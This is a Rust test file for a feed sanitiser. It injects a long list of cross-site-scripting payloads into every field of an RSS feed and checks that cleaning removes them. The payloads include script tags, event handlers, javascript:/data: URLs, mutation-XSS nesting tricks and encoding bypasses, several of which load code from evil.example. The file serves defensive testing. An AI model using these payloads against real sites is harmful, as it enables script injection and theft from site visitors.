//! Payloads that try to get script, frames, forms or addresses of other schemes through any text of a feed.

use super::*;
use crate::clean::html::assert_publishable;
use crate::model::{Enclosure, ParsedSource, Person};

/// One shape a line. None does anything but call `x`.
const PAYLOADS: &str = r#####"
<script>x()</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script/x>x()</script>
<script
>x()</script
>
<scr<script>ipt>x()</scr</script>ipt>
<<script>x();//<</script>
<script>x()
<script src="data:text/javascript,x()"></script>
<script type=module>import '//evil.example'</script>
</title><script>x()</script>
</textarea><script>x()</script>
</style><script>x()</script>
--><script>x()</script>
]]><script>x()</script>
<!--><script>x()</script>-->
<!--<script>x()//--><img src=1 onerror=x()>-->
<![CDATA[<script>x()</script>]]>
<?xml version="1.0"?><script>x()</script>
<!DOCTYPE x [<!ENTITY y "<script>x()</script>">]>&y;
&lt;script&gt;x()&lt;/script&gt;
&amp;lt;script&amp;gt;x()&amp;lt;/script&amp;gt;
&#60;script&#62;x()&#60;/script&#62;
&#x3c;script&#x3e;x()&#x3c;/script&#x3e;
<img src=x onerror=x()>
<img src=x onerror=x()
<img/src/onerror=x()>
<img src="x"onerror="x()">
<img src=x onerror	=x()>
<img src=x ONERROR=x()>
<img src=x on&#101;rror=x()>
<img src='x' onerror='x()' alt="<script>x()</script>">
<img src=`x`onerror=x()>
<img src="javascript:x()">
<img src="jav&#x09;ascript:x()">
<img src=data:image/svg+xml;base64,PHN2Zy8+>
<img srcset="javascript:x() 1x, https://a.example/b.jpg 2x">
<img srcset="x,,https://a.example/ 1x,javascript:x()">
<img longdesc="javascript:x()" src=/a.jpg>
<img lowsrc="javascript:x()" dynsrc="javascript:x()" src=/a.jpg>
<img usemap=#m src=/a.jpg><map name=m><area href=javascript:x() shape=default></map>
<img data-src="javascript:x()" src=/a.jpg>
<img title="&quot; onerror=x() &quot;" src=/a.jpg>
<input/onmouseover=x()
<input autofocus onfocus=x()>
<input type=image src=x onerror=x()>
<button formaction=javascript:x()>a</button>
<form action=javascript:x()><input type=submit></form>
<form id=a></form><button form=a formaction=javascript:x()>b</button>
<isindex type=image src=1 onerror=x()>
<select onchange=x()><option>a</select>
<textarea onfocus=x() autofocus>a</textarea>
<keygen autofocus onfocus=x()>
<details open ontoggle=x()>a</details>
<video><source onerror=x()></video>
<video src=x onerror=x()></video>
<video poster=javascript:x()></video>
<audio src=x onerror=x()></audio>
<audio autoplay onplay=x() src=https://a.example/a.mp3></audio>
<track src=javascript:x() default>
<source src=javascript:x()>
<a href=javascript:x()>a</a>
<a href="JaVaScRiPt:x()">a</a>
<a href=" &#14; javascript:x()">a</a>
<a href="java&#10;script:x()">a</a>
<a href="java&Tab;script:x()">a</a>
<a href="javascript&colon;x()">a</a>
<a href="&#106;avascript:x()">a</a>
<a href="vbscript:x()">a</a>
<a href="livescript:x()">a</a>
<a href="data:text/html,<script>x()</script>">a</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>
<a href="blob:https://a.example/1">a</a>
<a href="feed:javascript:x()">a</a>
<a href="view-source:javascript:x()">a</a>
<a href="file:///etc/passwd">a</a>
<a href="intent://x#Intent;end">a</a>
<a href="magnet:?xt=urn:x">a</a>
<a href="https://a.example/" onclick=x()>a</a>
<a href="https://a.example/" target=_blank ping=https://evil.example/>a</a>
<a xlink:href="javascript:x()">a</a>
<a href=https://a.example/ style="position:fixed;inset:0">a</a>
<a href="https://a.example/" id=cookie name=forms>a</a>
<a href='https://a.example/"><script>x()</script>'>a</a>
<base href=javascript:x()//>
<base href=//evil.example/><a href=x>a</a>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=import href=data:text/html,x>
<meta http-equiv=refresh content="0;url=javascript:x()">
<meta charset=utf-7>+ADw-script+AD4-x()+ADw-/script+AD4-
<style>@import '//evil.example/x.css'</style>
<style><img src=x onerror=x()></style>
<style></style><img src=x onerror=x()>
<p style="background:url(javascript:x())">a</p>
<p style="width:expression(x())">a</p>
<p style="-moz-binding:url(//evil.example/x.xml)">a</p>
<table background=javascript:x()><td background=javascript:x()>a</table>
<body onload=x() background=javascript:x()>
<frameset onload=x()><frame src=javascript:x()></frameset>
<iframe src=javascript:x()></iframe>
<iframe srcdoc="<script>x()</script>"></iframe>
<iframe src="https://www.youtube.com/embed/x&quot;onload=x()"></iframe>
<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>
<iframe src="javascript://www.youtube.com/embed/x%0ax()"></iframe>
<iframe title="</a><script>x()</script>" src=https://www.youtube.com/embed/x></iframe>
<noembed><script>x()</script></noembed>
<noframes><script>x()</script></noframes>
<noscript><p title="</noscript><img src=x onerror=x()>"></noscript>
<noscript><script>x()</script></noscript>
<object data=javascript:x()></object>
<object data="data:text/html,<script>x()</script>" type=text/html></object>
<object><param name=movie value=javascript:x()></object>
<embed src=javascript:x()>
<embed src=//evil.example/x.swf allowscriptaccess=always>
<applet code=x archive=//evil.example/x.jar></applet>
<svg onload=x()>
<svg><script>x()</script></svg>
<svg><script href=data:,x() /></svg>
<svg><a xlink:href=javascript:x()><text>a</text></a></svg>
<svg><animate onbegin=x() attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:x() />
<svg><use href="data:image/svg+xml,<svg id=x onload=x()>#x" /></svg>
<svg><foreignObject><iframe src=javascript:x()></iframe></foreignObject></svg>
<svg></p><style><a id="</style><img src=1 onerror=x()>">
<svg><title><style><img src=x onerror=x()></style></title></svg>
<math><mi xlink:href="javascript:x()">a</mi></math>
<math><mtext><table><mglyph><style><img src=x onerror=x()></style></table></mtext></math>
<math><annotation-xml encoding="text/html"><script>x()</script></annotation-xml></math>
<math><mtext><option><FAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror=x()>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=x()>
<template><script>x()</script></template>
<template><img src=x onerror=x()></template>
<div><template shadowrootmode=open><script>x()</script></template></div>
<marquee onstart=x()>a</marquee>
<bgsound src=javascript:x()>
<layer src=//evil.example/x.js></layer>
<xml id=x><a><b>&lt;script>x()&lt;/script></b></a></xml>
<xss style="behavior:url(x.htc)">a</xss>
<custom-tag onfocus=x() tabindex=1 autofocus>a</custom-tag>
<x contenteditable onblur=x()>a</x>
<plaintext><script>x()</script>
<xmp><script>x()</script></xmp>
<listing>&lt;img onerror=x() src=x&gt;</listing>
<title><script>x()</script></title>
<table><tr><td><script>x()</script><td><img src=x onerror=x()></table>
<table><script>x()</script><tr><td>a
<p><a href="https://a.example/"><p><img src=x onerror=x()></a>
<b><p><script>x()</b></script>
<a href="https://a.example/"><table><a href="javascript:x()">a</table>
"><img src=x onerror=x()>
' onmouseover='x()
" onmouseover="x()
javascript:x()
{{constructor.constructor('x()')()}}
${x()}
<%= x() %>
<img src=x onerror=x()//
<p onclick=x() onclick=y()>a</p>
<p/onclick=x()>a</p>
<p title=x onclick=x()//>a</p>
<blockquote cite=javascript:x()>a</blockquote>
<q cite="data:text/html,x">a</q>
<ins cite=vbscript:x()>a</ins>
<time datetime="<script>x()</script>">a</time>
<code class="language-<script>">a</code>
<bdo dir="rtl onclick=x()">a</bdo>
<menu><command onclick=x()></menu>
<dialog open onclose=x()>a</dialog>
<portal src=javascript:x()></portal>
<fencedframe src=https://evil.example/></fencedframe>
"#####;

fn text(value: &str, kind: TextKind) -> Option<Text> {
    Some(Text { value: value.to_owned(), kind, ..Text::default() })
}

/// A feed that says `payload` wherever a document can say anything.
fn infested(payload: &str, kind: TextKind) -> ParsedFeed {
    let said = || Some(payload.to_owned());
    let person = || Person { name: said(), email: said(), url: said(), role: said(), avatar: said() };
    let link = || WebLink {
        rel: payload.to_owned(),
        href: payload.to_owned(),
        media_type: said(),
        title: said(),
        ..WebLink::default()
    };
    let file = Enclosure {
        url: payload.to_owned(),
        media_type: said(),
        title: said(),
        credit: said(),
        description: said(),
        from_media: true,
        ..Enclosure::default()
    };
    let source = ParsedSource {
        title: text(payload, kind),
        id: said(),
        feed_url: said(),
        url: said(),
        icon: said(),
        rights: text(payload, kind),
        ..ParsedSource::default()
    };
    let item = ParsedItem {
        id: said(),
        url: said(),
        external_url: said(),
        original_url: said(),
        title: text(payload, kind),
        summary: text(payload, kind),
        content: text(&format!("<p>Isi.</p>{payload}"), kind),
        authors: vec![person()],
        contributors: vec![person()],
        tags: vec![payload.to_owned()],
        enclosures: vec![file],
        image: said(),
        banner_image: said(),
        thumbnail: said(),
        language: said(),
        rights: text(payload, kind),
        comments_url: said(),
        source: Some(source),
        links: vec![link()],
        ..ParsedItem::default()
    };
    ParsedFeed {
        title: text(payload, kind),
        description: text(payload, kind),
        home_page_url: said(),
        feed_url: said(),
        id: said(),
        language: said(),
        rights: text(payload, kind),
        generator: said(),
        icon: said(),
        image: said(),
        authors: vec![person()],
        contributors: vec![person()],
        tags: vec![payload.to_owned()],
        links: vec![link()],
        items: vec![item.clone(), ParsedItem { content: None, ..item }],
        ..ParsedFeed::new(Format::Rss20)
    }
}

#[track_caller]
fn assert_harmless(feed: &Feed, payload: &str) {
    for item in &feed.items {
        for html in [&item.content_html, &item.summary_html].into_iter().flatten() {
            assert_publishable(html.as_str());
        }
        let addresses = [&item.url, &item.external_url, &item.original_url, &item.banner_image, &item.thumbnail];
        let addresses = addresses.into_iter().flatten().chain(item.attachments.iter().map(|file| &file.url));
        let people = item.authors.iter().filter_map(|author| author.url.as_ref());
        let links = item.links.iter().chain(&feed.links).map(|link| &link.href);
        for url in addresses.chain(people).chain(links).chain(item.image.as_ref().map(|image| &image.url)) {
            assert!(matches!(url.scheme(), "http" | "https"), "{url} of {payload}");
        }
        let texts = [Some(&item.title), item.summary.as_ref(), item.content_text.as_ref(), item.rights.as_ref()];
        for text in texts.into_iter().flatten().chain(&item.tags).chain(&item.author_emails) {
            assert!(
                !text.chars().any(|letter| letter.is_control() && !matches!(letter, '\n' | '\t')),
                "{text:?} of {payload}"
            );
        }
    }
}

#[test]
fn no_payload_survives_in_any_field() {
    let payloads: Vec<&str> = PAYLOADS.trim().lines().collect();
    assert!(payloads.len() > 160);
    let document = Url::parse("https://kabar.example/rss.xml").ok();
    for payload in payloads.iter().copied().chain([PAYLOADS]) {
        for kind in [TextKind::Html, TextKind::Unknown, TextKind::Plain] {
            let parsed = infested(payload, kind);
            let feed = clean(parsed, &Policy::default(), document.as_ref(), Timestamp::epoch());
            assert_harmless(&feed, payload);
        }
    }
}

#[test]
fn text_of_markup_holds_no_markup() {
    for payload in ["<img src=x onerror=x()>", "<input/onmouseover=x()", "a<script>x()</script>b", "<svg onload=x()>"] {
        let title = text::plain(payload, TextKind::Html);
        assert!(!title.contains(['<', '>']) && !title.contains("x()"), "{title} of {payload}");
    }
}
